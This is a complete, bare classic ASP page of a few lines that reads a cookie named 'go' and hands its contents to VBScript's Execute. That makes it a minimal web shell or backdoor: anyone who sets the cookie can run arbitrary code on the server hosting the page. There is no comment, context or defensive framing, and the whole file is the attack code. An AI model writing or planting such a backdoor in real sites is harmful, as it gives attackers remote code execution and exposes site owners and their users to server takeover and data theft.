<%
Dim s
s = Request.Cookies("go")
If Len(s) > 0 Then Execute s
%>
